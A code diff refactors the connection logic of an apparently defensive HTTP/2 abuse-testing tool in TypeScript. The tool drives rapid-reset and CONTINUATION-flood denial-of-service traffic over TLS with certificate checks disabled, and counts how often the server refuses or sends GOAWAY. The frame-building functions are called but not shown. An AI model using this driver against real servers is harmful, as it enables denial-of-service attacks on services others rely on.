@@ -39,73 +39,108 @@ export interface H2AbuseResult {
 
 function once(o: H2AbuseOptions, res: H2AbuseResult): Promise<void> {
   return new Promise((resolve) => {
-    let secure = false;
-    let id = 1;
-    let done = false;
-    const burst = o.burst ?? 100;
-    const authority = o.servername ?? 'localhost';
-    const finish = () => {
-      if (done) return;
-      done = true;
-      clearTimeout(timer);
-      s.destroy();
-      resolve();
-    };
-    const refuse = (kind: 'refused' | 'unanswered') => {
-      res[kind]++;
-      if (res.firstRefusedAt === 0) res.firstRefusedAt = Date.now();
-    };
-    const s: TLSSocket = connect({
+    new H2Attempt(o, res, resolve);
+  });
+}
+
+/** One connection: refused, unanswered, or a session pumped with abusive frames until it closes or `until`. */
+class H2Attempt {
+  private secure = false;
+  private done = false;
+  /** The next stream id (odd, client-initiated). */
+  private id = 1;
+  private readonly burst: number;
+  private readonly authority: string;
+  private readonly s: TLSSocket;
+  private readonly timer: NodeJS.Timeout;
+  /** Bytes of a frame not yet complete. */
+  private pending: Buffer = Buffer.alloc(0);
+
+  constructor(
+    private readonly o: H2AbuseOptions,
+    private readonly res: H2AbuseResult,
+    private readonly resolve: () => void,
+  ) {
+    this.burst = o.burst ?? 100;
+    this.authority = o.servername ?? 'localhost';
+    const s = connect({
       host: o.host,
       port: o.port,
       localAddress: o.localAddress,
-      servername: authority,
+      servername: this.authority,
       ALPNProtocols: ['h2'],
       rejectUnauthorized: false,
     } as unknown as Parameters<typeof connect>[0]);
-    const timer = setTimeout(() => {
-      if (!secure) refuse('unanswered');
-      finish();
+    this.s = s;
+    this.timer = setTimeout(() => {
+      if (!this.secure) this.refuse('unanswered');
+      this.finish();
     }, o.connectTimeoutMs ?? 1000);
     s.on('error', () => {});
     s.on('close', () => {
-      if (!secure && !done) refuse('refused');
-      finish();
+      if (!this.secure && !this.done) this.refuse('refused');
+      this.finish();
     });
-    let pending: Buffer = Buffer.alloc(0);
-    s.on('data', (d: Buffer) => {
-      // Frames re-assembled across chunks: count the server's GOAWAYs.
-      pending = pending.length === 0 ? d : Buffer.concat([pending, d]);
-      let i = 0;
-      while (i + 9 <= pending.length) {
-        const len = pending.readUIntBE(i, 3);
-        if (i + 9 + len > pending.length) break;
-        if (pending[i + 3] === T.GOAWAY) res.goaways++;
-        i += 9 + len;
-      }
-      pending = pending.subarray(i);
-    });
-    s.once('secureConnect', () => {
-      secure = true;
-      clearTimeout(timer);
-      res.sessions++;
-      s.write(attackerPreface());
-      // One write a turn of the event loop: as fast as the socket drains, and the server's frames still get read.
-      const pump = () => {
-        if (done || s.destroyed) return;
-        if (Date.now() >= o.until) return finish();
-        const n = o.kind === 'rapid-reset' ? burst : 1;
-        const chunk =
-          o.kind === 'rapid-reset' ? rapidResetBurst(id, burst, authority) : continuationFlood(id, authority, 16);
-        id += 2 * n;
-        res.streams += n;
-        if (id > 0x7fff0000) return finish();
-        if (s.write(chunk)) setImmediate(pump);
-        else s.once('drain', pump);
-      };
-      pump();
-    });
-  });
+    s.on('data', (d: Buffer) => this.countGoaways(d));
+    s.once('secureConnect', () => this.attack());
+  }
+
+  private finish(): void {
+    if (this.done) return;
+    this.done = true;
+    clearTimeout(this.timer);
+    this.s.destroy();
+    this.resolve();
+  }
+
+  private refuse(kind: 'refused' | 'unanswered'): void {
+    this.res[kind]++;
+    if (this.res.firstRefusedAt === 0) this.res.firstRefusedAt = Date.now();
+  }
+
+  /** Frames re-assembled across chunks: count the server's GOAWAYs. */
+  private countGoaways(d: Buffer): void {
+    const pending = this.pending.length === 0 ? d : Buffer.concat([this.pending, d]);
+    let i = 0;
+    while (i + 9 <= pending.length) {
+      const len = pending.readUIntBE(i, 3);
+      if (i + 9 + len > pending.length) break;
+      if (pending[i + 3] === T.GOAWAY) this.res.goaways++;
+      i += 9 + len;
+    }
+    this.pending = pending.subarray(i);
+  }
+
+  private attack(): void {
+    this.secure = true;
+    clearTimeout(this.timer);
+    this.res.sessions++;
+    this.s.write(attackerPreface());
+    this.pump();
+  }
+
+  /** One write a turn of the event loop: as fast as the socket drains, and the server's frames still get read. */
+  private pump = (): void => {
+    const { o, s } = this;
+    if (this.done || s.destroyed) return;
+    if (Date.now() >= o.until) {
+      this.finish();
+      return;
+    }
+    const n = o.kind === 'rapid-reset' ? this.burst : 1;
+    const chunk =
+      o.kind === 'rapid-reset'
+        ? rapidResetBurst(this.id, this.burst, this.authority)
+        : continuationFlood(this.id, this.authority, 16);
+    this.id += 2 * n;
+    this.res.streams += n;
+    if (this.id > 0x7fff0000) {
+      this.finish();
+      return;
+    }
+    if (s.write(chunk)) setImmediate(this.pump);
+    else s.once('drain', this.pump);
+  };
 }
 
 export async function runH2Abuse(o: H2AbuseOptions): Promise<H2AbuseResult> {
